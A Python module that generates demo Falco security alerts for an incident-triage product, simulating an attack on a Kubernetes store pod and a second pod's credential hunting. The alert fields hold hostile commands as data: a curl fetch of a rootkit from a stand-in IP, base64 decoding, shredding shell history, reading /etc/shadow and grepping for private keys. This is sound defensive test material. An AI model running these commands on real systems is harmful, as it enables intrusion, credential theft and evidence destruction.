"""The demo's Falco detections (``manage.py load_demo``, PRODUCT.md "The demo scenario").

The compromised ``store-frontend-ping-php`` pod: as ``www-data`` the attacker gets a shell,
fetches a rootkit tarball with curl, decodes it with ``base64 -d``, unpacks it (``tar xvfz``,
``gzip -d``: base-image tools, which no shipped rule flags, so they show only as the parents of
what follows) and shreds the shell history. Falco raised one alert per flagged step, about six
hours ago; they were grouped into one incident candidate, which the ISSO attached to the main
incident once the capture was reviewed. A second pod of the store read ``/etc/shadow`` and
searched for private keys twenty minutes ago: that candidate is open, in the triage queue.

Rule names, priorities, tags and output formats are those of Falco's rule files
(``falco_rules.yaml``, ``falco-incubating_rules.yaml``, ``falco-sandbox_rules.yaml``), written
here as data: the demo reads nothing outside the project. Each alert is built as Falco emits it
with ``json_output: true`` (``output_fields`` for every field of the format, plus the container
and Kubernetes fields) and stored through ``alerts_store``, like any delivery.
"""

from __future__ import annotations

import re
from datetime import datetime, timedelta

from . import falco
from .ingest import alerts_store, candidate_attach, detections_group
from .models import Detection, IncidentCandidate

# name: (priority as in the rule file, tags, output format)
RULES = {
    "Terminal shell in container": (
        "NOTICE",
        ["maturity_stable", "container", "shell", "mitre_execution", "T1059"],
        "A shell was spawned in a container with an attached terminal | evt_type=%evt.type "
        "user=%user.name user_uid=%user.uid user_loginuid=%user.loginuid process=%proc.name "
        "proc_exepath=%proc.exepath parent=%proc.pname command=%proc.cmdline "
        "terminal=%proc.tty exe_flags=%evt.arg.flags",
    ),
    "Launch Suspicious Network Tool in Container": (
        "NOTICE",
        ["maturity_incubating", "container", "network", "process", "mitre_execution", "T1059"],
        "Network tool launched in container | evt_type=%evt.type user=%user.name "
        "user_uid=%user.uid user_loginuid=%user.loginuid process=%proc.name "
        "proc_exepath=%proc.exepath parent=%proc.pname command=%proc.cmdline "
        "terminal=%proc.tty exe_flags=%evt.arg.flags",
    ),
    "Decoding Payload in Container": (
        "INFO",
        ["maturity_sandbox", "container", "process", "mitre_command_and_control", "T1132"],
        "Decoding Payload in Container | evt_type=%evt.type user=%user.name "
        "user_uid=%user.uid user_loginuid=%user.loginuid process=%proc.name "
        "proc_exepath=%proc.exepath parent=%proc.pname command=%proc.cmdline "
        "terminal=%proc.tty exe_flags=%evt.arg.flags",
    ),
    "Remove Bulk Data from Disk": (
        "WARNING",
        [
            "maturity_stable",
            "host",
            "container",
            "process",
            "filesystem",
            "mitre_impact",
            "T1485",
        ],
        "Bulk data has been removed from disk | file=%fd.name evt_type=%evt.type "
        "user=%user.name user_uid=%user.uid user_loginuid=%user.loginuid process=%proc.name "
        "proc_exepath=%proc.exepath parent=%proc.pname command=%proc.cmdline "
        "terminal=%proc.tty exe_flags=%evt.arg.flags",
    ),
    "Clear Log Activities": (
        "WARNING",
        [
            "maturity_stable",
            "host",
            "container",
            "filesystem",
            "mitre_defense_evasion",
            "T1070",
            "NIST_800-53_AU-10",
        ],
        "Log files were tampered | file=%fd.name evt_type=%evt.type user=%user.name "
        "user_uid=%user.uid user_loginuid=%user.loginuid process=%proc.name "
        "proc_exepath=%proc.exepath parent=%proc.pname command=%proc.cmdline "
        "terminal=%proc.tty",
    ),
    "Delete or rename shell history": (
        "WARNING",
        [
            "maturity_incubating",
            "host",
            "container",
            "process",
            "filesystem",
            "mitre_defense_evasion",
            "T1070",
        ],
        "Shell history deleted or renamed | file=%fd.name name=%evt.arg.name "
        "path=%evt.arg.path oldpath=%evt.arg.oldpath evt_type=%evt.type user=%user.name "
        "user_uid=%user.uid user_loginuid=%user.loginuid process=%proc.name "
        "proc_exepath=%proc.exepath parent=%proc.pname command=%proc.cmdline "
        "terminal=%proc.tty",
    ),
    "Read sensitive file untrusted": (
        "WARNING",
        [
            "maturity_stable",
            "host",
            "container",
            "filesystem",
            "mitre_credential_access",
            "T1555",
        ],
        "Sensitive file opened for reading by non-trusted program | file=%fd.name "
        "gparent=%proc.aname[2] ggparent=%proc.aname[3] gggparent=%proc.aname[4] "
        "evt_type=%evt.type user=%user.name user_uid=%user.uid user_loginuid=%user.loginuid "
        "process=%proc.name proc_exepath=%proc.exepath parent=%proc.pname "
        "command=%proc.cmdline terminal=%proc.tty",
    ),
    "Search Private Keys or Passwords": (
        "WARNING",
        [
            "maturity_stable",
            "host",
            "container",
            "process",
            "filesystem",
            "mitre_credential_access",
            "T1552.001",
        ],
        "Grep private keys or passwords activities found | evt_type=%evt.type "
        "user=%user.name user_uid=%user.uid user_loginuid=%user.loginuid process=%proc.name "
        "proc_exepath=%proc.exepath parent=%proc.pname command=%proc.cmdline "
        "terminal=%proc.tty exe_flags=%evt.arg.flags",
    ),
}

NODE = "demo-k8s-node-2"
IMAGE = "registry.demo.example.gov/store/"  # the STORE system's image repositories
PING_PHP = {
    "container.id": "5e2b71f4c9d3",
    "container.name": "store-frontend-ping-php",
    "container.image.repository": f"{IMAGE}store-frontend-ping-php",
    "container.image.tag": "1.4.2",
    "k8s.ns.name": "store",
    "k8s.pod.name": "store-frontend-ping-php",
}
CART = {
    "container.id": "a91c0e7d2b46",
    "container.name": "store-cart",
    "container.image.repository": f"{IMAGE}store-cart",
    "container.image.tag": "2.0.7",
    "k8s.ns.name": "store",
    "k8s.pod.name": "store-cart-5f7b9c-q2x8d",
}
WWW_DATA = {"user.name": "www-data", "user.uid": 33, "user.loginuid": -1}


def _step(process, exe, parent, cmdline, **more):
    return {
        **WWW_DATA,
        "evt.type": "execve",
        "proc.name": process,
        "proc.exepath": exe,
        "proc.pname": parent,
        "proc.cmdline": cmdline,
        "proc.tty": 34816,
        "evt.arg.flags": "EXE_LOWER_LAYER",
        **more,
    }


SHRED = _step("shred", "/usr/bin/shred", "bash", "shred -f /var/www/.bash_history")
ROOTKIT = "curl -s http://198.51.100.23/kit/rk.tar.gz.b64 -o /tmp/.x"

# (seconds before now, rule, pod, fields): the attack on the ping pod, six hours ago …
ATTACK = [
    (
        6 * 3600 + 4 * 60,
        "Terminal shell in container",
        PING_PHP,
        _step("bash", "/bin/bash", "sh", "bash -i"),
    ),
    (
        6 * 3600 + 3 * 60 + 12,
        "Launch Suspicious Network Tool in Container",
        PING_PHP,
        _step("curl", "/usr/bin/curl", "bash", ROOTKIT),
    ),
    (
        6 * 3600 + 2 * 60 + 47,
        "Decoding Payload in Container",
        PING_PHP,
        _step("base64", "/usr/bin/base64", "bash", "base64 -d /tmp/.x"),
    ),
    (6 * 3600 + 31, "Remove Bulk Data from Disk", PING_PHP, {**SHRED, "fd.name": None}),
    (
        6 * 3600 + 30,
        "Clear Log Activities",
        PING_PHP,
        {**SHRED, "evt.type": "openat", "fd.name": "/var/www/.bash_history"},
    ),
    (
        6 * 3600 + 29,
        "Delete or rename shell history",
        PING_PHP,
        {**SHRED, "evt.type": "unlinkat", "evt.arg.name": "/var/www/.bash_history"},
    ),
]
# … and the cart pod, twenty minutes ago: still waiting in the triage queue.
WAITING = [
    (
        24 * 60,
        "Read sensitive file untrusted",
        CART,
        _step(
            "cat",
            "/bin/cat",
            "sh",
            "cat /etc/shadow",
            **{"evt.type": "openat", "fd.name": "/etc/shadow", "proc.aname[2]": "php-fpm"},
        ),
    ),
    (
        21 * 60 + 8,
        "Search Private Keys or Passwords",
        CART,
        _step("grep", "/bin/grep", "sh", "grep -r 'BEGIN RSA PRIVATE KEY' /var/www"),
    ),
]

_FIELD = re.compile(r"%([a-zA-Z0-9_.]+(?:\[[^\]]*\])?)")
PRIORITY_SHOWN = {"INFO": "Informational"}


def falco_alert(name: str, *, at: datetime, pod: dict, fields: dict) -> dict:
    """An alert of rule ``name`` at ``at`` as Falco emits it with ``json_output: true``."""
    priority, tags, output = RULES[name]
    seconds = int(at.timestamp())
    # Falco's times carry nanoseconds: a fixed, made-up fraction of the second per alert.
    ns = seconds * 10**9 + (seconds * 104_729) % 10**9
    values = {field: fields.get(field) for field in _FIELD.findall(output)}
    values.update(pod)
    values["evt.time"] = ns
    shown = PRIORITY_SHOWN.get(priority, priority.capitalize())

    def render(m):
        value = values.get(m.group(1))
        return "<NA>" if value is None else str(value)

    stamp = falco.format_ns(ns)
    return {
        "hostname": NODE,
        "output": f"{stamp[11:29]}: {shown} {_FIELD.sub(render, output)}",
        "priority": shown,
        "rule": name,
        "source": "syscall",
        "tags": list(tags),
        "time": stamp,
        "output_fields": values,
    }


def _store(agency, alerts, *, received_at: datetime) -> None:
    items = [falco.Item(index=i, value=alert) for i, alert in enumerate(alerts)]
    result = alerts_store(agency=agency, items=items, now=received_at)
    if result.rejected or result.accepted + result.duplicates != len(alerts):
        raise RuntimeError(f"demo detections not stored: {result.as_dict()}")
    detections_group(agency_id=agency.pk, now=received_at)


def load_detections(*, agency, system, incident, ctx, now: datetime) -> dict[str, int]:
    """Give ``system`` (the store) its selectors, store and group the scenario's alerts, attach
    the attack's candidate to ``incident`` as ``ctx`` (the ISSO), after the capture's review,
    and leave the second pod's candidate open. Returns counts."""
    system.image_repositories = [IMAGE]
    system.k8s_namespaces = ["store"]
    system.save(update_fields=["image_repositories", "k8s_namespaces"])

    def alerts(rows):
        return [
            falco_alert(rule, at=now - timedelta(seconds=before), pod=pod, fields=fields)
            for before, rule, pod, fields in rows
        ]

    _store(agency, alerts(ATTACK), received_at=now - timedelta(hours=6))
    attack = IncidentCandidate.objects.get(
        agency=agency, group_key=f"pod:store/{PING_PHP['k8s.pod.name']}"
    )
    candidate_attach(ctx=ctx, candidate=attack, incident=incident, now=now - timedelta(minutes=50))
    _store(agency, alerts(WAITING), received_at=now - timedelta(minutes=20))
    return {
        "detections": Detection.objects.filter(agency=agency).count(),
        "candidates": IncidentCandidate.objects.filter(agency=agency).count(),
    }
